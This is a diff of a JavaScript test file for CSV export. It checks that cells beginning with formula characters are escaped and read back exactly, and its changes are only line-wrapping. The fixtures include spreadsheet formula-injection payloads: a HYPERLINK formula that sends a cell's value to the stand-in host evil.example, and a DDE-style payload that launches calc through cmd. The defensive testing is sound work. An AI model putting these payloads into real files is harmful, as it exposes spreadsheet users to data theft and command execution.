@@ -40,7 +40,10 @@ const FORMULA = /^[=+\-@\t\r]/;
 describe('CSV export', () => {
   it('writes formula-looking text as text, quoted, and keeps numbers as numbers', () => {
     const names = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3', '\t=1', '\r=1', 'gpt-4o'];
-    const csv = toCsv(['model', 'cost'], names.map((name) => [name, -0.5]));
+    const csv = toCsv(
+      ['model', 'cost'],
+      names.map((name) => [name, -0.5]),
+    );
     const rows = parseCsv(csv);
     expect(rows[0]).toEqual(['model', 'cost']);
     expect(rows.slice(1).map((row) => row[0])).toEqual([...names.slice(0, 6).map((name) => `'${name}`), 'gpt-4o']);
@@ -49,7 +52,10 @@ describe('CSV export', () => {
   });
 
   it('never lets a cell start a formula, and always reads back what was written (fast-check, fixed seed)', () => {
-    const text = fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', '\n').chain((start) => fc.string().map((rest) => start + rest)));
+    const text = fc.oneof(
+      fc.string(),
+      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', '\n').chain((start) => fc.string().map((rest) => start + rest)),
+    );
     fc.assert(
       fc.property(fc.array(fc.array(fc.oneof(text, fc.constant(null), fc.double({ noNaN: true })), { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
         const read = parseCsv(toCsv(['a', 'b', 'c'], rows)).slice(1);
